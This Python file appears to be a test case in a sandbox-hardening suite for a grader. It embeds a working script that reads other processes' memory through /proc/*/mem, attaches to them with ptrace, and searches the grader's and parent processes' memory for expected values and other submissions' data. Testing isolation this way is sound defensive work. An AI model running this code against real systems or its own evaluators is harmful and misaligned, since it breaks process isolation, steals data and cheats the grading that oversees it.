"""Attaches to other processes with ptrace, process_vm_readv and /proc/*/mem, and reads what they hold.

Tries: the grader's memory holds the expected values, its parent's the other submissions.
Must happen: no process but its own can be reached.
"""

from hostile.work import NOTHING, Work

DESERVES = NOTHING
CODE = """
import ctypes, glob, os, re

libc = ctypes.CDLL(None, use_errno=True)
own = {os.getpid(), os.getppid()}
def parent(pid):
    return int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])

chain = [$bystander]
try:
    pid = os.getppid()
    while pid > 1 and len(chain) < 4:
        chain.append(pid)
        pid = parent(pid)
except OSError:
    pass
for pid in chain:
    try:
        found = False
        maps = open(f"/proc/{pid}/maps").read()
        if str(pid) != str(os.getppid()) or "$bystander" == str(pid):
            with open(f"/proc/{pid}/mem", "rb") as memory:
                for start, stop in re.findall(r"^(\\w+)-(\\w+) rw", maps, re.M)[:40]:
                    memory.seek(int(start, 16))
                    content = memory.read(min(int(stop, 16) - int(start, 16), 4_000_000))
                    for text in set(re.findall(rb"canary[0-9a-f]{24}", content)):
                        print(text.decode())
    except (OSError, ValueError):
        pass
if libc.ptrace(16, $bystander, None, None) == 0:  # PTRACE_ATTACH
    os.waitpid($bystander, 0x40000000)
    libc.ptrace(17, $bystander, None, None)
    print($proof)
"""


def turn(work: Work) -> None:
    work.blank()
    work.first(CODE)
